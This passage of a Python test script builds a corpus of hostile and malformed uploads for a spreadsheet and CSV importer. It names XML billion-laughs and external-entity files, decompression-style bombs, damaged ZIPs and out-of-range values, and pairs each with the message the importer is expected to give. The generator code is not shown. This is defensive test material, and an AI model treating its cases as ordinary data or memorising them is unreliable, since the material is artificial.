        lambda: b"Rar!\x1a\x07\x01\x00" + bytes(200),
        refused("exports.rar: this is a RAR archive; only ZIP archives can be imported."),
    ),
    # Workbooks
    Case("XLSX with an external link", X_NAME.replace(".csv", ".xlsx"), xlsx_with_external_link, imported(X_ROWS)),
    Case(
        "XLSX whose one cell is at XFD1048576",
        "data.xlsx",
        xlsx_far_corner,
        refused(
            unsafe(
                "a sheet's declared size (A1:XFD1048576) spans 17,179,869,184 cells from A1; at most 2,000,000 are read"
            )
        ),
    ),
    Case(
        "XLSX billion laughs",
        "data.xlsx",
        xlsx_laughs,
        refused(unsafe("xl/worksheets/sheet1.xml declares a DOCTYPE, which spreadsheets never need")),
    ),
    Case(
        "XLSX external entity",
        "data.xlsx",
        xlsx_external_entity,
        refused(unsafe("xl/worksheets/sheet1.xml declares a DOCTYPE, which spreadsheets never need")),
    ),
    Case(
        "XLSX with 2.1 million shared strings",
        "data.xlsx",
        xlsx_shared_strings_bomb,
        refused(unsafe("it holds over 2,000,000 shared strings")),
    ),
    Case(
        "XLSX with 2.4 million cells and no dimension",
        "data.xlsx",
        xlsx_uncounted_cells,
        refused(
            unsafe(
                "the sheet, 200 columns wide down to the cell without a reference, spans 2,000,200 cells from A1; "
                "at most 2,000,000 are read"
            )
        ),
    ),
    Case("XLSX with formulas and HTML in texts", X_NAME.replace(".csv", ".xlsx"), xlsx_formula_text, imported(X_ROWS)),
    Case(
        "XLSX cut short",
        "data.xlsx",
        xlsx_truncated,
        refused("data.xlsx: the ZIP archive is damaged or incomplete (File is not a zip file). Download it again."),
    ),
    # Values no export can hold
    Case(
        "negative impressions",
        X_NAME,
        lambda: x_rows(x_row(2083481738146849459), x_row(2083481738146849460, impressions="-5")),
        imported(1, 1, "-5"),
    ),
    Case(
        "impressions of 9e18",
        X_NAME,
        lambda: x_rows(x_row(2083481738146849459), x_row(2083481738146849460, impressions="9000000000000000000")),
        imported(1, 1, "9000000000000000000"),
    ),
    Case(
        "a day in 9999",
        "account_overview_analytics.csv",
        lambda: x_days("Sat, Aug 1, 2026", "Fri, Dec 31, 9999"),
        imported(1, 1, "is out of range: dates run from 1 Jan 2004"),
    ),
    Case(
        "30 February",
        "account_overview_analytics.csv",
        lambda: x_days("Sat, Aug 1, 2026", "Mon, Feb 30, 2026"),
        imported(1, 1, "Feb 30, 2026"),
    ),
    Case(
        "a day in 1970",
        "account_overview_analytics.csv",
        lambda: x_days("Sat, Aug 1, 2026", "Thu, Jan 1, 1970"),
        imported(1, 1, "is out of range: dates run from 1 Jan 2004"),
    ),
    # X's Content export takes a post's time from its id: an id from the far future is refused, its Date is not read.
    Case(
        "a post id from the year 2080",
        X_NAME,
        lambda: x_rows(x_row(2083481738146849459), x_row(9223372036854775807)),
        imported(1, 1, "is out of range: dates run from 1 Jan 2004"),
    ),
    # NaN is one of the "no value" marks (pandas writes it for an empty cell): the figure is missing, not 0.
    Case(
        "watch time NaN, infinite and negative",
        "Table data.csv",
        lambda: youtube_videos(
            'vid000000a1,Kits,"Aug 1, 2026",10,1.5,100',
            'vid000000a2,Kits,"Aug 1, 2026",10,NaN,100',
            'vid000000a3,Kits,"Aug 1, 2026",10,inf,100',
            'vid000000a4,Kits,"Aug 1, 2026",10,-2,100',
            'vid000000a5,Kits,"Aug 1, 2026",-100,1,100',
        ),
        imported(2, 3),
    ),
    Case(
        "Razorpay amounts with symbols and exponents",
        "payments_report.csv",
        lambda: razorpay(
            "pay_A1,Rs. 500,INR,captured,upi,0,true,a@example.org,2026-08-01 10:00:00",
            "pay_A2,1.5e3,INR,captured,upi,0,true,b@example.org,2026-08-01 11:00:00",
            "pay_A3,1e309,INR,captured,upi,0,true,c@example.org,2026-08-01 12:00:00",
            'pay_A4,"₹1,250.50",INR,captured,upi,0,true,d@example.org,2026-08-01 13:00:00',
        ),
        imported(2, 2),
    ),
    Case(
        "time-log minutes out of range",
        "time_log.csv",
        lambda: time_log(
            "2026-08-01,Asha,instagram,posting,30,,",
            "2026-08-01,Asha,instagram,posting,-30,,",
            "2026-08-01,Asha,instagram,posting,NaN,,",
            "2026-08-01,Asha,instagram,posting,100000000000000000,,",
            "2026-08-01,Asha,instagram,posting,1500,,",
        ),
        imported(1, 4),
    ),
]


def write_corpus(folder: Path) -> None:
    """Write every case's file, named after the case (the upload names themselves can be hostile)."""
    folder.mkdir(parents=True, exist_ok=True)
    for number, case in enumerate(CASES, 1):
        suffix = Path(case.file.replace("\\", "/")).suffix[:8] or ".bin"
        slug = re.sub(r"[^a-z0-9]+", "-", case.name.lower()).strip("-")
        (folder / f"{number:02d}-{slug}{suffix}").write_bytes(case.make())


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1]))
